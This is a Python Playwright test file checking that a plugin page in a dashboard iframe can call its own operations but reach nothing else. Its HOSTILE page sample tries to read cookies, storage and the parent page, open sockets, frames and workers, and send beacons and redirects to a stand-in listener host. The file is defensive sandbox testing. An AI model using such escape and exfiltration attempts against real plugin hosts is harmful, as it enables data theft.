"""Pages of plugins on the dashboard: one that works, and what one cannot reach."""

from __future__ import annotations

import json
import os
import socket
from contextlib import suppress
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import expect

pytestmark = pytest.mark.real
MANIFEST = {
    "id": "tides",
    "version": "1.0",
    "description": "When the tide turns.",
    "module": "tides_plugin",
    "capabilities": {
        "operations": ["tides.next", "tides.note"],
        "panels": {"today": {"title": "Tides today", "file": "today.html"}},
    },
}
CODE = """
from palinurus.plugin import BadRequest, Services, Struct, operation

class Tide(Struct, frozen=True):
    at: str

@operation("tides.next", scope="read")
async def next_tide(services: Services, day: str) -> Tide:
    \"\"\"When the tide turns.  Example: pal tides Monday\"\"\"
    if day == "never":
        raise BadRequest("the sea is gone")
    return Tide(f"{day} 06:12")

@operation("tides.note", scope="write")
async def note(services: Services, text: str) -> Tide:
    \"\"\"Note something.  Example: pal tides note x\"\"\"
    return Tide(text)

def register(app):
    app.operation(next_tide)
    app.operation(note)
"""
PAGE = """
<style>body { font: 16px sans-serif }</style><h1>Tides</h1><p id="at"></p><p id="noted"></p><p id="no"></p>
<button id="more">Tomorrow</button>
<script>
  const at = document.getElementById("at");
  palinurus.call("tides.next", { day: "Monday" }).then((tide) => (at.textContent = tide.at));
  palinurus.call("tides.note", { text: "calm" }).then((tide) => (noted.textContent = tide.at));
  palinurus.call("tides.next", { day: "never" }).catch((error) => (no.textContent = error.message));
  more.onclick = async () => (at.textContent = (await palinurus.call("tides.next", { day: "Tuesday" })).at);
</script>
"""
HOSTILE = """
<img src="/page/mark.svg"><img src="http://LISTENER/x"><p id="told"></p>
<script>
  const tried = {
    operation: () => palinurus.call("config.get", { path: "models" }),
    unnamed: () => palinurus.call("toString"),
    page: () => parent.document.title,
    storage: () => localStorage.length,
    cookie: () => document.cookie,
    database: () => indexedDB.open("x"),
    fetch: () => fetch("/v1/models"),
    socket: () => new Promise((good, bad) => {
      const socket = new WebSocket("ws://" + parent_host + "/ws"); socket.onopen = good; socket.onerror = bad;
    }),
    window: () => { if (open("/") === null) throw new Error("no window") },
    top: () => { top.location = "/page/mark.svg" },
    frame: () => new Promise((good, bad) => {
      const frame = document.createElement("iframe");
      frame.onload = () => frame.contentDocument ? good() : bad(new Error("no frame"));
      frame.src = "/"; document.body.append(frame);
    }),
    worker: () => new Promise((good, bad) => {
      const worker = new Worker("data:text/javascript,postMessage(1)"); worker.onmessage = good; worker.onerror = bad;
    }),
    script: () => new Promise((good, bad) => {
      const script = document.createElement("script");
      script.onload = good; script.onerror = () => bad(new Error("no script")); script.src = "/page/app.js";
      document.body.append(script);
    }),
    code: () => eval("1"),
  };
  const parent_host = "GATEWAY";
  navigator.sendBeacon("http://LISTENER/beacon", "x");
  told.onclick = () => { location = "http://LISTENER/away" };
  (async () => {
    const done = [];
    for (const [name, attempt] of Object.entries(tried)) {
      try { await attempt(); done.push(name); } catch {}
    }
    told.textContent = "done: " + done.join(" ");
  })();
</script>
"""


def house(start: Any, root: Path, html: str) -> Any:
    folder = root / "tides"
    folder.mkdir()
    (folder / "palinurus.plugin.json").write_text(json.dumps(MANIFEST))
    (folder / "tides_plugin.py").write_text(CODE)
    (folder / "today.html").write_text(html)
    services = start(plugins={"load": {"paths": [str(folder)]}})
    (folder / "today.html").write_text(html.replace("GATEWAY", f"127.0.0.1:{services.port}"))
    return services


def received(listener: socket.socket) -> list[bytes]:
    """What has come. A browser connects before it decides that it may not send anything, which is nothing."""
    data = []
    with suppress(BlockingIOError):
        while True:
            connection, _ = listener.accept()
            with connection, suppress(BlockingIOError):
                connection.setblocking(False)
                data.append(connection.recv(300))
    return [each for each in data if each]


def test_a_page_calls_the_operations_of_its_plugin(start: Any, enter: Any, tmp_path: Path) -> None:
    services = house(start, tmp_path, PAGE)
    page = enter(services, "/plugins")
    row = page.locator("[data-plugin=tides]")
    expect(row).to_contain_text("When the tide turns.")
    row.get_by_role("link", name="Tides today").click()
    inside = page.frame_locator("iframe")
    expect(inside.locator("#at")).to_have_text("Monday 06:12")
    expect(inside.locator("#noted")).to_have_text("calm")
    expect(inside.locator("#no")).to_have_text("the sea is gone")
    inside.get_by_role("button", name="Tomorrow").click()
    expect(inside.locator("#at")).to_have_text("Tuesday 06:12")
    if folder := os.environ.get("PAGE_SHOTS"):
        page.screenshot(path=f"{folder}/plugins.png")
    assert (page.watched.errors, page.watched.refused) == ([], [])


def test_a_page_reaches_nothing_else(start: Any, enter: Any, tmp_path: Path) -> None:
    with socket.create_server(("127.0.0.1", 0)) as listener:
        listener.setblocking(False)
        html = HOSTILE.replace("LISTENER", f"127.0.0.1:{listener.getsockname()[1]}")
        services = house(start, tmp_path, html)
        page = enter(services, "/plugins?plugin=tides&page=today")
        told = page.frame_locator("iframe").locator("#told")
        expect(told).to_have_text("done: ")
        told.click()
        expect(told).to_have_count(0)
        assert page.url == services.url + "/plugins?plugin=tides&page=today"
        page.reload()
        expect(told).to_have_text("done: ")
        assert received(listener) == []
